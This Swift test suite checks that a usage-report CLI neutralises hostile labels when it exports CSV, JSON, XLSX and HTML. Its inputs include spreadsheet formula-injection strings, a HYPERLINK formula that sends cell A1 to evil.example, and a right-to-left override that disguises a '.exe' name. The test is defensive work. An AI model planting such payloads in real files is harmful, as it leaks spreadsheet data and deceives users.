import Foundation
import TTIDSandbox
import TTUsageTestSupport
import Testing
import UsageCore

/// Issue 6 item 5, hostile input: labels and user ids that try to be formulas, break CSV quoting, flip text
/// direction or are huge, in a manifest that uses every liberty the README allows. The real `ttusage` binary
/// exports them from the in-process sandbox and every file it wrote is read back with an independent reader.
@Suite("Hostile labels and manifests, end to end")
struct HostileLabelTests {
    struct Key {
        var appKey: String
        var userId: String
        var label: String
    }

    /// 5 settled days, ending 3 days ago.
    static let range: DayRange = {
        let to = Day(containing: Date()).adding(days: -3)
        return DayRange(from: to.adding(days: -4), to: to)!
    }()

    static let days: [String] = range.map(\.description)

    /// 10 kB and more of text that needs quoting in CSV, mixes scripts, and holds emoji and line breaks.
    static let bigLabel: String = {
        let unit = "Ünïcødé, \"quoted\"\r\n🇺🇦👨‍👩‍👧 שלום مرحبا\n"
        var text = ""
        while text.utf8.count < 10_240 { text += unit }
        return text
    }()

    static let hostileLabels: [String] = [
        "=1+1",
        "+SUM(A1)",
        "-2+3",
        "@cmd",
        "\tTabbed",
        "\rCarriage return first",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "Borealis Trading, Ltd",
        "Say \"hi\"",
        "\"",
        ",",
        "line1\nline2",
        "crlf1\r\ncrlf2",
        "ends with a line feed\n",
        "  padded on both sides  ",
        "\u{202E}شركة الأمل للتجارة",
        "עברית \u{202E}gpj.exe",
        "👩‍👩‍👧‍👦 family, 🏳️‍🌈 and 🇯🇵🇺🇦🇪🇺, 👍🏽",
        "",
        bigLabel,
    ]

    /// The keys of the manifest, in order (distinct), with a case-mixed app key kept as written.
    static let keys: [Key] = hostileLabels.enumerated().map { index, label in
        let appKey =
            index == 7
            ? "ABCDEF07-1111-4222-8333-444444444444"
            : String(format: "%08x-1111-4222-8333-444444444444", index + 1)
        return Key(appKey: appKey, userId: String(100_000 + index), label: label)
    }

    /// A manifest with a UTF-8 BOM, CRLF line ends, RFC 4180 quoting of every label, blank lines and one repeated
    /// key (different user id and label: the first one wins); also the physical line of the repeat.
    static func hostileManifest() -> (text: String, repeatLine: Int) {
        var records = ["app_key,user_id,label", ""]
        for (index, key) in keys.enumerated() {
            records.append("\(key.appKey),\(key.userId),\(ReportReaders.csvQuoted(key.label))")
            if index == 3 { records.append(contentsOf: ["", ""]) }
        }
        let before = "\u{FEFF}" + records.joined(separator: "\r\n") + "\r\n"
        let repeatLine = before.utf8.filter { $0 == 0x0A }.count + 1
        let text = before + "\(keys[0].appKey),999,\(ReportReaders.csvQuoted("=2+2 the repeat"))\r\n\r\n\r\n"
        return (text, repeatLine)
    }

    static func sandbox() -> SandboxConfiguration {
        var configuration = SandboxConfiguration()
        configuration.rate = nil
        configuration.dailyQuota = nil
        return configuration
    }

    static func readCSV(_ url: URL) throws -> [[String]] {
        try ReportReaders.csvRecords(Data(contentsOf: url))
    }

    /// Column indexes by header name.
    static func columns(_ header: [String]) -> [String: Int] {
        Dictionary(header.enumerated().map { ($1, $0) }, uniquingKeysWith: { first, _ in first })
    }

    // MARK: - 1. export, every format

    @Test func hostileLabelsStayTextInEveryFormat() async throws {
        let directory = try CLI.temporaryDirectory()
        let manifest = Self.hostileManifest()
        let keysFile = directory.appendingPathComponent("keys.csv")
        try CLI.write(manifest.text, to: keysFile)
        let out = directory.appendingPathComponent("out")
        let byKey = Dictionary(uniqueKeysWithValues: Self.keys.map { ($0.appKey, $0) })

        try await TTIDSandboxServer.withRunning(Self.sandbox()) { server in
            let result = try await CLI.run(
                [
                    "export", "--from", Self.range.from.description, "--to", Self.range.to.description,
                    "--keys", keysFile.path, "--out", out.path, "--format", "csv,json,xlsx,html",
                    "--base-url", server.baseURL, "--rate", "0", "--no-store",
                ], environment: CLI.demoEnvironment)
            #expect(result.code == 0, "\(result.stderr)")

            // One warning, about the repeated key, naming both lines.
            let warnings = result.stderr.split(separator: "\n").filter {
                $0.localizedCaseInsensitiveContains("warning")
            }
            #expect(warnings.count == 1, "\(result.stderr)")
            let warning = String(warnings.first ?? "")
            #expect(warning.contains(Self.keys[0].appKey))
            #expect(warning.contains("line \(manifest.repeatLine)") && warning.contains("repeats line 3"), "\(warning)")
            #expect(result.stderr.components(separatedBy: "repeats").count == 2, "\(result.stderr)")
        }

        let written = CLI.files(in: out)
        for name in ["daily.csv", "summary.csv", "report.json", "report.xlsx", "report.html"] {
            #expect(written.contains(name), "\(name) missing from \(written)")
        }
        try Self.checkPage(out.appendingPathComponent("report.html"), byKey: byKey)

        // daily.csv: the contract header, keys × days rows in manifest then date order, labels neutralised.
        let daily = try Self.readCSV(out.appendingPathComponent("daily.csv"))
        #expect(daily.first == ["date", "app_key", "user_id", "label", "used", "remaining", "status"])
        let dailyRows = Array(daily.dropFirst())
        #expect(dailyRows.count == Self.keys.count * Self.days.count)
        for (index, row) in dailyRows.enumerated() {
            let key = Self.keys[min(index / Self.days.count, Self.keys.count - 1)]
            try #require(row.count == 7, "daily.csv row \(index + 2) has \(row.count) fields")
            #expect(row[0] == Self.days[index % Self.days.count], "row \(index + 2)")
            #expect(row[1] == key.appKey, "row \(index + 2)")
            #expect(row[2] == key.userId, "row \(index + 2)")
            #expect(row[3] == ReportReaders.csvNeutralised(key.label), "row \(index + 2) label of \(key.appKey)")
            #expect(["ok", "missing"].contains(row[6]), "row \(index + 2) status \(row[6])")
        }
        // The rule itself, spelled out for the six prefixes, so a wrong helper cannot hide a wrong writer.
        let neutralised = Dictionary(dailyRows.map { ($0[1], $0[3]) }, uniquingKeysWith: { first, _ in first })
        #expect(neutralised[Self.keys[0].appKey] == "'=1+1")
        #expect(neutralised[Self.keys[1].appKey] == "'+SUM(A1)")
        #expect(neutralised[Self.keys[2].appKey] == "'-2+3")
        #expect(neutralised[Self.keys[3].appKey] == "'@cmd")
        #expect(neutralised[Self.keys[4].appKey] == "'\tTabbed")
        #expect(neutralised[Self.keys[5].appKey] == "'\rCarriage return first")
        #expect(neutralised[Self.keys[8].appKey] == "Say \"hi\"")
        #expect(neutralised[Self.keys[19].appKey] == Self.bigLabel)
        #expect(!dailyRows.contains { $0[2] == "999" || $0[3].contains("the repeat") }, "the repeated row was used")

        // summary.csv and every other CSV: wherever a row names an app key, its label and user id follow the rule.
        var summaryKeys: [String] = []
        for name in written where name.hasSuffix(".csv") && name != "daily.csv" {
            let records = try Self.readCSV(out.appendingPathComponent(name))
            let header = try #require(records.first, "\(name) is empty")
            for (index, row) in records.enumerated() {
                #expect(
                    row.count == header.count, "\(name) record \(index + 1) has \(row.count) of \(header.count) fields")
            }
            let column = Self.columns(header)
            guard let keyColumn = column["app_key"] else { continue }
            var seen = 0
            for row in records.dropFirst() where row.count == header.count {
                guard let key = byKey[row[keyColumn]] else { continue }
                seen += 1
                if name == "summary.csv" { summaryKeys.append(key.appKey) }
                if let labelColumn = column["label"] {
                    #expect(
                        row[labelColumn] == ReportReaders.csvNeutralised(key.label), "\(name) label of \(key.appKey)")
                }
                if let userColumn = column["user_id"] {
                    #expect(
                        row[userColumn] == ReportReaders.csvNeutralised(key.userId), "\(name) user of \(key.appKey)")
                }
            }
            #expect(seen > 0, "\(name) names no key")
        }
        #expect(Set(summaryKeys) == Set(Self.keys.map(\.appKey)) && summaryKeys.count == Self.keys.count)

        // report.json: labels and user ids exact (no '), keys in manifest order, the repeated key once.
        let json = try #require(
            try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("report.json")))
                as? [String: Any])
        let jsonKeys = try #require(json["keys"] as? [[String: Any]])
        #expect(jsonKeys.compactMap { $0["appKey"] as? String } == Self.keys.map(\.appKey))
        #expect(jsonKeys.compactMap { $0["userId"] as? String } == Self.keys.map(\.userId))
        let jsonLabels = jsonKeys.compactMap { $0["label"] as? String }
        #expect(jsonLabels.count == Self.keys.count)
        for (label, key) in zip(jsonLabels, Self.keys) {
            #expect(label == key.label, "report.json label of \(key.appKey)")
        }
        for entry in jsonKeys {
            #expect((entry["days"] as? [Any])?.count == Self.days.count)
        }
        let tables = try #require(json["tables"] as? [[String: Any]])
        var tableLabels = 0
        for table in tables {
            let ids = (table["columns"] as? [[String: Any]] ?? []).map { $0["id"] as? String ?? "" }
            guard let keyColumn = ids.firstIndex(of: "app_key"), let labelColumn = ids.firstIndex(of: "label") else {
                continue
            }
            for row in table["rows"] as? [[String: Any]] ?? [] {
                let cells = row["cells"] as? [Any] ?? []
                guard cells.count == ids.count, let appKey = cells[keyColumn] as? String, let key = byKey[appKey] else {
                    continue
                }
                // An empty label may be written as null or "": both hold no text.
                #expect((cells[labelColumn] as? String ?? "") == key.label, "table \(table["id"] ?? "") \(appKey)")
                tableLabels += 1
            }
        }
        #expect(tableLabels >= Self.keys.count)

        try Self.checkWorkbook(out.appendingPathComponent("report.xlsx"), dailyRows: dailyRows, byKey: byKey)
    }

    /// report.html, parsed: no element or event handler came from a label, and every label of the summary table
    /// reads exactly as written (characters HTML cannot hold, C0 controls, become U+FFFD; line ends read as LF).
    static func checkPage(_ url: URL, byKey: [String: Key]) throws {
        let page = try XMLTree(data: try Data(contentsOf: url))
        let counts = page.counts
        for element in ["script", "img", "iframe", "object", "embed", "link", "a"] {
            #expect(counts[element] == nil, "report.html holds <\(element)>")
        }
        let summary = try #require(page.all("table").first { $0["data-table"] == "summary" })
        var seen: Set<String> = []
        for row in summary.children.first(where: { $0.name == "tbody" })?.children ?? [] {
            let cells = row.children
            guard let appKey = cells.first(where: { $0["data-column"] == "app_key" })?.text, let key = byKey[appKey]
            else { continue }
            let label = cells.first { $0["data-column"] == "label" }?.text ?? ""
            let expected = String(
                String.UnicodeScalarView(
                    key.label.unicodeScalars.map {
                        ($0.value < 0x20 && $0 != "\t" && $0 != "\n" && $0 != "\r") || $0.value == 0x7F
                            ? "\u{FFFD}" : $0
                    })
            )
            // A parser (XML's or a browser's HTML one) reads CR LF and a lone CR as LF: what a reader sees.
            .replacingOccurrences(of: "\r\n", with: "\n").replacingOccurrences(of: "\r", with: "\n")
            #expect(label == expected, "report.html label of \(appKey)")
            seen.insert(appKey)
        }
        #expect(seen == Set(byKey.keys))
    }

    /// report.xlsx: every label a string cell holding the exact text, no formula anywhere.
    static func checkWorkbook(_ url: URL, dailyRows: [[String]], byKey: [String: Key]) throws {
        let workbook = try XLSXReader(url: url)
        // A workbook small enough for Excel tables is written in memory and keeps its text in the shared-string
        // table; a streamed (constant-memory) one writes every text as an inline string. One or the other, never both.
        let textType = workbook.partPaths.contains("xl/sharedStrings.xml") ? "s" : "inlineStr"
        #expect(workbook.sheet("Summary") != nil && workbook.sheet("Daily") != nil, "\(workbook.sheets.map(\.name))")

        for sheet in workbook.sheets {
            #expect(sheet.elementCounts["f"] == nil, "\(sheet.name) holds a formula")
            for cell in sheet.cells.values {
                #expect(
                    cell.type == nil || cell.type == textType, "\(sheet.name) \(cell.reference) t=\(cell.type ?? "")")
                #expect(!cell.hasFormula, "\(sheet.name) \(cell.reference)")
                // Leading or trailing white space is kept only with xml:space="preserve".
                if cell.type == "inlineStr", let first = cell.rawText.unicodeScalars.first,
                    let last = cell.rawText.unicodeScalars.last,
                    first.properties.isWhitespace || last.properties.isWhitespace
                {
                    #expect(cell.textAttributes["xml:space"] == "preserve", "\(sheet.name) \(cell.reference)")
                }
            }
        }

        // Daily: the rows of daily.csv, text exact (no ').
        let daily = try #require(workbook.sheet("Daily"))
        let grid = daily.grid
        #expect(
            (0..<7).map { grid[0]?[$0]?.text } == [
                "date", "app_key", "user_id", "label", "used", "remaining", "status",
            ])
        #expect(grid.keys.max() == dailyRows.count)
        for (index, csvRow) in dailyRows.enumerated() {
            let row = index + 1
            guard let key = byKey[csvRow[1]] else {
                Issue.record("daily.csv row \(row + 1): unknown key \(csvRow[1])")
                continue
            }
            for (column, expected) in [(1, key.appKey), (2, key.userId), (3, key.label)] {
                let cell = grid[row]?[column]
                if expected.isEmpty {
                    // libxlsxwriter writes no cell for empty text without a format.
                    #expect(cell == nil || cell?.text == "", "Daily row \(row + 1) column \(column + 1)")
                    continue
                }
                #expect(cell?.type == textType, "Daily row \(row + 1) column \(column + 1)")
                #expect(cell?.text == expected, "Daily row \(row + 1) column \(column + 1) of \(key.appKey)")
            }
            #expect(
                grid[row]?[0]?.type == nil
                    && grid[row]?[0]?.text == String(describing: Day(iso: csvRow[0])!.excelSerialForTest))
        }

        // Summary: the label of every key, exact.
        let summary = try #require(workbook.sheet("Summary"))
        let summaryGrid = summary.grid
        let header = (summaryGrid[0] ?? [:]).mapValues(\.text)
        let keyColumn = try #require(header.first { $0.value == "app_key" }?.key)
        let labelColumn = try #require(header.first { $0.value == "label" }?.key)
        var found: Set<String> = []
        for (row, cells) in summaryGrid where row > 0 {
            guard let appKey = cells[keyColumn]?.text, let key = byKey[appKey] else { continue }
            found.insert(appKey)
            if key.label.isEmpty {
                #expect(cells[labelColumn] == nil || cells[labelColumn]?.text == "", "Summary \(appKey)")
            } else {
                #expect(cells[labelColumn]?.type == textType, "Summary \(appKey)")
                #expect(cells[labelColumn]?.text == key.label, "Summary label of \(appKey)")
            }
        }
        #expect(found == Set(byKey.keys))

        // Charts (when the template has it): series headers are "label (first 8 of the key)", text as well.
        if let charts = workbook.sheet("Charts") {
            let expected = Set(
                byKey.values.map {
                    $0.label.isEmpty ? $0.appKey : "\($0.label) (\($0.appKey.prefix(8)))"
                })
            for (column, cell) in charts.grid[0] ?? [:] where column >= 2 {
                #expect(expected.contains(cell.text), "Charts header \(cell.reference): \(cell.text.prefix(40))")
            }
        }
    }

    // MARK: - 2. a manifest of 100,000 rows

    @Test func planReadsAHundredThousandRowManifest() async throws {
        let directory = try CLI.temporaryDirectory()
        var text = "\u{FEFF}app_key,user_id,label\r\n"
        text.reserveCapacity(6_000_000)
        for index in 0..<100_000 {
            text += String(
                format: "%08x-%04x-4abc-8def-%012x,%d,K%d\r\n", index, index % 0xFFFF, index * 7, index, index)
        }
        let keysFile = directory.appendingPathComponent("keys.csv")
        try CLI.write(text, to: keysFile)
        let result = try await CLI.run([
            "plan", "--from", Self.range.from.description, "--to", Self.range.to.description, "--keys", keysFile.path,
        ])
        #expect(result.code == 0, "\(result.stderr)")
        #expect(result.stdout.contains("keys: 100000"), "\(result.stdout)")
        #expect(result.stdout.contains("keyusage calls: 100000"), "\(result.stdout)")
        #expect(!result.stderr.contains("repeats"), "\(result.stderr)")
    }

    // MARK: - 3. render from report.json

    @Test func renderRebuildsIdenticalCSVFromHostileReportJSON() async throws {
        let directory = try CLI.temporaryDirectory()
        let keys = [
            Key(appKey: "aaaaaaaa-1111-4222-8333-444444444444", userId: "7", label: Self.bigLabel),
            Key(
                appKey: "BBBBBBBB-1111-4222-8333-444444444444", userId: "0003",
                label: "=HYPERLINK(\"http://evil.example\",\"x\")"),
            Key(appKey: "cccccccc-1111-4222-8333-444444444444", userId: "42", label: "\r\n,\"\u{202E}🇺🇦"),
        ]
        let manifest =
            "app_key,user_id,label\n"
            + keys.map {
                "\($0.appKey),\(ReportReaders.csvQuoted($0.userId)),\(ReportReaders.csvQuoted($0.label))"
            }.joined(separator: "\n") + "\n"
        let keysFile = directory.appendingPathComponent("keys.csv")
        try CLI.write(manifest, to: keysFile)
        let exported = directory.appendingPathComponent("exported")
        let rendered = directory.appendingPathComponent("rendered")

        try await TTIDSandboxServer.withRunning(Self.sandbox()) { server in
            let result = try await CLI.run(
                [
                    "export", "--from", Self.range.from.description, "--to", Self.range.to.description,
                    "--keys", keysFile.path, "--out", exported.path, "--format", "csv,json,xlsx",
                    "--base-url", server.baseURL, "--rate", "0", "--no-store",
                ], environment: CLI.demoEnvironment)
            #expect(result.code == 0, "\(result.stderr)")
        }
        let render = try await CLI.run([
            "render", "--input", exported.appendingPathComponent("report.json").path, "--out", rendered.path,
        ])
        #expect(render.code == 0, "\(render.stderr)")

        let original = try Data(contentsOf: exported.appendingPathComponent("daily.csv"))
        let again = try Data(contentsOf: rendered.appendingPathComponent("daily.csv"))
        #expect(original == again, "daily.csv differs after render (\(original.count) vs \(again.count) bytes)")
        for name in CLI.files(in: exported) where name.hasSuffix(".csv") {
            let first = try Data(contentsOf: exported.appendingPathComponent(name))
            let second = try? Data(contentsOf: rendered.appendingPathComponent(name))
            #expect(first == second, "\(name) differs after render")
        }

        // And the bytes hold what was asked: exact text, neutralised where it starts like a formula.
        let rows = try ReportReaders.csvRecords(again).dropFirst()
        #expect(rows.count == keys.count * Self.days.count)
        for (index, row) in rows.enumerated() {
            let key = keys[min(index / Self.days.count, keys.count - 1)]
            try #require(row.count == 7)
            #expect(row[1] == key.appKey)
            #expect(row[2] == ReportReaders.csvNeutralised(key.userId))
            #expect(row[3] == ReportReaders.csvNeutralised(key.label))
        }
        // A user id is TT's digits (the manifest refuses anything else), leading zeros kept.
        #expect(rows.first?[2] == "7" && rows.dropFirst(Self.days.count).first?[2] == "0003")

        let json = try #require(
            try JSONSerialization.jsonObject(with: Data(contentsOf: rendered.appendingPathComponent("report.json")))
                as? [String: Any])
        let jsonKeys = try #require(json["keys"] as? [[String: Any]])
        #expect(jsonKeys.compactMap { $0["userId"] as? String } == keys.map(\.userId))
        #expect(jsonKeys.compactMap { $0["label"] as? String } == keys.map(\.label))
    }

    // MARK: - Known faults

    /// OOXML strings treat `_xHHHH_` as an escape (ECMA-376 ST_Xstring), so Excel shows the label `_x0041_` as `A`
    /// unless the writer escapes the underscore as `_x005F_`. libxlsxwriter escapes control characters that way
    /// but not a literal `_xHHHH_`.
    @Test func xlsxKeepsTextThatLooksLikeAnOOXMLEscape() async throws {
        let directory = try CLI.temporaryDirectory()
        let labels = ["_x0041_", "Ref _x000D_ and _x263A_"]
        let keys = labels.enumerated().map { index, label in
            Key(appKey: String(format: "%08x-aaaa-4bbb-8ccc-dddddddddddd", index + 1), userId: "1", label: label)
        }
        let keysFile = directory.appendingPathComponent("keys.csv")
        try CLI.write(
            "app_key,user_id,label\n" + keys.map { "\($0.appKey),1,\($0.label)" }.joined(separator: "\n"),
            to: keysFile)
        let out = directory.appendingPathComponent("out")
        try await TTIDSandboxServer.withRunning(Self.sandbox()) { server in
            let result = try await CLI.run(
                [
                    "export", "--from", Self.range.to.description, "--to", Self.range.to.description,
                    "--keys", keysFile.path, "--out", out.path, "--format", "csv,xlsx",
                    "--base-url", server.baseURL, "--rate", "0", "--no-store",
                ], environment: CLI.demoEnvironment)
            #expect(result.code == 0, "\(result.stderr)")
        }
        let csv = try ReportReaders.csvRecords(Data(contentsOf: out.appendingPathComponent("daily.csv")))
        #expect(csv.dropFirst().map { $0[3] } == labels)
        let daily = try #require(
            try XLSXReader(url: out.appendingPathComponent("report.xlsx")).sheet("Daily"))
        // A literal _xHHHH_ is escaped as _x005F_xHHHH_, so an OOXML reader shows the text as written.
        #expect(daily.grid[1]?[3]?.text == labels[0])
        #expect(daily.grid[2]?[3]?.text == labels[1])
    }
}

extension Day {
    /// Excel's serial number of the day (1900 date system), as the workbook writes it.
    fileprivate var excelSerialForTest: Int { ordinal + 25_569 }
}
